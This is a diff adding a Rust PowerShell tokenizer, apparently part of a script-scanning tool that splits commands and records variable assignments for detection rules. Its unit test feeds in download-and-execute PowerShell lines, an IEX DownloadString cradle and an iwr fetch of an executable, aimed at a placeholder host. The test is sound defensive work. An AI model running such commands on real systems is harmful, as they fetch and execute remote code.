@@ -1,0 +1,237 @@
+//! PowerShell tokenizer: statements end at newlines, `;` and braces;
+//! pipelines at `|`; `'…'` (with `''`), `"…"` (with backtick escapes) and
+//! here-strings are words; `(…)`, `$(…)` and `@(…)` stay inside their word;
+//! `#` and `<#…#>` comments and backtick line continuations are removed.
+//! Simple `$name = "value"` assignments are recorded for the rules.
+
+use super::{Cmd, MAX_COMMANDS, Pipeline, Redir, Script, shown};
+
+/// Parse PowerShell text.
+pub fn parse(src: &str, first_line: usize) -> Script {
+    let b = src.as_bytes();
+    let mut script = Script::default();
+    let mut pipe = Pipeline::default();
+    let mut i = 0;
+    let mut line = first_line;
+    let mut count = 0usize;
+    while i < b.len() && count < MAX_COMMANDS {
+        match b[i] {
+            b' ' | b'\t' | b'\r' => i += 1,
+            b'`' if b.get(i + 1) == Some(&b'\n') => {
+                i += 2;
+                line += 1;
+            }
+            b'\n' | b';' | b'{' | b'}' => {
+                if b[i] == b'\n' {
+                    line += 1;
+                }
+                i += 1;
+                if !pipe.cmds.is_empty() {
+                    script.pipelines.push(std::mem::take(&mut pipe));
+                }
+            }
+            b'|' => {
+                i += if b.get(i + 1) == Some(&b'|') { 2 } else { 1 };
+            }
+            b'&' if b.get(i + 1) == Some(&b'&') => {
+                i += 2;
+                if !pipe.cmds.is_empty() {
+                    script.pipelines.push(std::mem::take(&mut pipe));
+                }
+            }
+            b'#' => {
+                while i < b.len() && b[i] != b'\n' {
+                    i += 1;
+                }
+            }
+            b'<' if b.get(i + 1) == Some(&b'#') => {
+                let end = memchr::memmem::find(&b[i..], b"#>")
+                    .map(|n| i + n + 2)
+                    .unwrap_or(b.len());
+                line += memchr::memchr_iter(b'\n', &b[i..end]).count();
+                i = end;
+            }
+            _ => {
+                let start = i;
+                let mut cmd = Cmd {
+                    line,
+                    ..Default::default()
+                };
+                while i < b.len() {
+                    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\r') {
+                        i += 1;
+                    }
+                    if b.get(i) == Some(&b'`') && b.get(i + 1) == Some(&b'\n') {
+                        i += 2;
+                        line += 1;
+                        continue;
+                    }
+                    if i >= b.len() || matches!(b[i], b'\n' | b';' | b'|' | b'{' | b'}' | b'#') {
+                        break;
+                    }
+                    if b[i] == b'&' && b.get(i + 1) == Some(&b'&') {
+                        break;
+                    }
+                    if matches!(b[i], b'>')
+                        || (b[i].is_ascii_digit() && b.get(i + 1) == Some(&b'>'))
+                    {
+                        let mut j = i;
+                        while j < b.len() && (b[j] == b'>' || b[j].is_ascii_digit()) {
+                            j += 1;
+                        }
+                        let op = src[i..j].to_string();
+                        while j < b.len() && matches!(b[j], b' ' | b'\t') {
+                            j += 1;
+                        }
+                        let (w, end, nl) = word(src, j);
+                        line += nl;
+                        i = end.max(j + 1).min(b.len());
+                        if !op.starts_with('2') {
+                            cmd.redirs.push(Redir { op, target: w });
+                        }
+                        continue;
+                    }
+                    let (w, end, nl) = word(src, i);
+                    line += nl;
+                    i = end.max(i + 1).min(b.len());
+                    cmd.argv.push(w);
+                }
+                cmd.text = shown(&src[start..i.min(b.len())]);
+                // $name = "literal"
+                if cmd.argv.len() >= 3
+                    && cmd.argv[1] == "="
+                    && let Some(name) = cmd.argv[0].strip_prefix('$')
+                {
+                    cmd.assigns
+                        .push((name.to_ascii_lowercase(), cmd.argv[2].clone()));
+                }
+                if !cmd.argv.is_empty() {
+                    count += 1;
+                    pipe.cmds.push(cmd);
+                }
+            }
+        }
+    }
+    if !pipe.cmds.is_empty() {
+        script.pipelines.push(pipe);
+    }
+    script
+}
+
+/// One word from byte `i`: (text with quotes removed, end, newlines crossed).
+fn word(src: &str, mut i: usize) -> (String, usize, usize) {
+    let b = src.as_bytes();
+    let mut out = String::new();
+    let mut nl = 0;
+    let mut depth = 0usize;
+    while i < b.len() {
+        let c = b[i];
+        if depth == 0 && matches!(c, b' ' | b'\t' | b'\r' | b'\n' | b';' | b'|' | b'{' | b'}') {
+            break;
+        }
+        if depth == 0 && c == b'>' {
+            break;
+        }
+        match c {
+            b'@' if matches!(b.get(i + 1), Some(b'"') | Some(b'\''))
+                && b.get(i + 2) == Some(&b'\n') =>
+            {
+                // Here-string: up to a line starting with "@ or '@.
+                let q = b[i + 1];
+                let close = [b'\n', q, b'@'];
+                let end = memchr::memmem::find(&b[i + 2..], &close)
+                    .map(|n| i + 2 + n)
+                    .unwrap_or(b.len());
+                out.push_str(&src[(i + 3).min(end)..end]);
+                nl += memchr::memchr_iter(b'\n', &b[i..end]).count() + 1;
+                i = (end + 3).min(b.len());
+            }
+            b'\'' => {
+                i += 1;
+                while i < b.len() {
+                    if b[i] == b'\'' {
+                        if b.get(i + 1) == Some(&b'\'') {
+                            out.push('\'');
+                            i += 2;
+                            continue;
+                        }
+                        break;
+                    }
+                    if b[i] == b'\n' {
+                        nl += 1;
+                    }
+                    let ch = src[i..].chars().next().unwrap_or(' ');
+                    out.push(ch);
+                    i += ch.len_utf8();
+                }
+                i += 1;
+            }
+            b'"' => {
+                i += 1;
+                while i < b.len() && b[i] != b'"' {
+                    if b[i] == b'`' && i + 1 < b.len() {
+                        i += 1;
+                    }
+                    if b[i] == b'\n' {
+                        nl += 1;
+                    }
+                    let ch = src[i..].chars().next().unwrap_or(' ');
+                    out.push(ch);
+                    i += ch.len_utf8();
+                }
+                i += 1;
+            }
+            b'`' if i + 1 < b.len() => {
+                let ch = src[i + 1..].chars().next().unwrap_or(' ');
+                out.push(ch);
+                i += 1 + ch.len_utf8();
+            }
+            b'(' => {
+                depth += 1;
+                out.push('(');
+                i += 1;
+            }
+            b')' => {
+                depth = depth.saturating_sub(1);
+                out.push(')');
+                i += 1;
+            }
+            b'\n' => {
+                nl += 1;
+                out.push(' ');
+                i += 1;
+            }
+            _ => {
+                let ch = src[i..].chars().next().unwrap_or(' ');
+                out.push(ch);
+                i += ch.len_utf8();
+            }
+        }
+    }
+    (out, i.min(b.len()), nl)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn statements_and_words() {
+        let s = parse(
+            "$u = \"http://h/x\"\nIEX (New-Object Net.WebClient).DownloadString('http://h/y') # c\niwr -Uri $u -OutFile x.exe | Out-Null\n<# block\n#> Start-BitsTransfer -Source a\n",
+            1,
+        );
+        let c: Vec<&Cmd> = s.pipelines.iter().flat_map(|p| &p.cmds).collect();
+        assert_eq!(c[0].assigns, [("u".to_string(), "http://h/x".to_string())]);
+        assert_eq!(c[1].argv[0], "IEX");
+        assert_eq!(
+            c[1].argv[1],
+            "(New-Object Net.WebClient).DownloadString(http://h/y)"
+        );
+        assert_eq!(c[2].argv, ["iwr", "-Uri", "$u", "-OutFile", "x.exe"]);
+        assert_eq!(c[2].line, 3);
+        assert_eq!(c[3].argv[0], "Out-Null");
+        assert_eq!(c[4].argv[0], "Start-BitsTransfer");
+        assert_eq!(c[4].line, 5);
+    }
+}
